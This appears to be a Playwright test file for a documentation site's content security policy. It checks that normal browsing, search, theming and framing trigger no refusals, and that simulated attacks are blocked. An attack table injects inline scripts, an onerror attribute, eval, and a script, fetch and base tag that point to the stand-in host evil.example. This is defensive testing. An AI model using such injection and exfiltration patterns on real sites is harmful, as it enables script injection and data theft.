// The content security policy at work: the site does nothing that it refuses, and it refuses what an attacker would do.
import { createServer } from 'node:http';
import { openSearch, search } from '../../packages/search/tests/browser/panel.ts';
import { freePort } from '../../tools/serve/port.ts';
import { hydrate } from '../support/hydration.ts';
import { expect, openHydrated, type Page, test } from '../support/test.ts';

const guide = 'guide/start/quick-start';
const logos = 'https://assets.rspack.rs/**';
const logo =
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0h9v9H0z"/></svg>';

/** Collects what the policy of any frame of the page refuses, as directive and address. */
async function refusals(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction('noteRefusal', (what: string) => found.push(what));
  await page.addInitScript(() => {
    const { noteRefusal } = window as unknown as { noteRefusal(what: string): void };
    document.addEventListener('securitypolicyviolation', (event) =>
      noteRefusal(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  // What a worker's own policy refuses is told on the console alone.
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) found.push(message.text());
  });
  return found;
}

test.beforeEach(async ({ page }) => {
  await page.route(logos, (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: logo }),
  );
});

test('home, the popover with logos, a guide with search, tabs and theme, a page reached by a link: nothing is refused', async ({
  page,
}) => {
  const refused = await refusals(page);
  await openHydrated(page, '');
  await page.locator('[data-tools] > button').click();
  await expect(page.locator('#tools-popover img').first()).toBeVisible();
  await page.keyboard.press('Escape');

  await openHydrated(page, guide);
  await page.locator('[data-switch-appearance]').click();
  await expect(page.locator('html')).toHaveClass(/\bdark\b/);
  await page.getByRole('tab').nth(1).click();
  const panel = await openSearch(page);
  await search(panel, 'umd name');
  // Refused, it would have been replaced by an engine beside the page.
  expect(page.workers()).toHaveLength(1);
  await page.keyboard.press('Enter');
  await expect(page.locator('h1')).toContainText('lib.umdName');
  await page.locator('header a:has(img)').first().click();
  await expect(page.locator('main h1')).toBeVisible();
  expect(refused).toEqual([]);
});

test('an unknown address, another language and a page in a frame of another site: nothing is refused', async ({
  page,
  baseURL,
}) => {
  const refused = await refusals(page);
  await page.goto('zh/nowhere');
  await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN');
  await hydrate(page);
  await openHydrated(page, `zh/${guide}`);
  // Another port is another site to the browser; a made-up host would not be let at this machine.
  const embedding = createServer((_, response) =>
    response
      .setHeader('Content-Type', 'text/html')
      .end(
        `<!doctype html><iframe width="1200" height="700" src="${baseURL}${guide}?navbar=0&sidebar=0"></iframe>`,
      ),
  );
  const port = await freePort();
  await new Promise<void>((ready) => embedding.listen(port, '127.0.0.1', ready));
  await page.goto(`http://127.0.0.1:${port}/`);
  const frame = page.frameLocator('iframe');
  await expect(frame.locator('h1')).toBeVisible();
  await expect(frame.locator('.rp-nav')).toBeHidden();
  await frame.locator('h1').click();
  await frame.getByRole('tab').nth(1).click();
  await frame.locator('html[data-test-hydrated]').waitFor({ state: 'attached' });
  embedding.close();
  embedding.closeAllConnections();
  expect(refused).toEqual([]);
});

const attacks: Record<string, [directive: string, attack: (page: Page) => unknown]> = {
  'a script that is written into the page': [
    'script-src-elem inline',
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        script.text = 'document.documentElement.dataset.attacked = "1"';
        document.body.append(script);
      }),
  ],
  'an attribute with code': [
    'script-src-attr inline',
    (page) =>
      page.evaluate(() => {
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src="/nothing" onerror="document.documentElement.dataset.attacked = 1">',
        );
      }),
  ],
  'a script of another host': [
    'script-src-elem https://evil.example/a.js',
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/a.js';
        document.body.append(script);
      }),
  ],
  'text that is run as code': [
    'script-src eval',
    (page) =>
      page.evaluate(() => {
        setTimeout('document.documentElement.dataset.attacked = "1"');
      }),
  ],
  'a style sheet that reads the page': [
    'style-src-elem inline',
    (page) =>
      page.evaluate(() => {
        const style = document.createElement('style');
        style.textContent = 'html { --attacked: 1 }';
        document.head.append(style);
      }),
  ],
  'data that is sent away': [
    'connect-src https://evil.example/',
    (page) =>
      page.evaluate(() => {
        fetch('https://evil.example/').catch(() => undefined);
      }),
  ],
  'another base for all addresses': [
    'base-uri https://evil.example/',
    (page) =>
      page.evaluate(() => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      }),
  ],
};

test('what an attacker would do is refused, and leaves nothing behind', async ({
  page,
}) => {
  const refused = await refusals(page);
  await page.goto(guide);
  for (const [name, [directive, attack]] of Object.entries(attacks)) {
    await attack(page);
    await expect.poll(() => refused, name).toContain(directive);
  }
  await expect(page.locator('html')).not.toHaveAttribute('data-attacked');
  expect(
    await page.evaluate(() =>
      getComputedStyle(document.documentElement).getPropertyValue('--attacked'),
    ),
  ).toBe('');
});
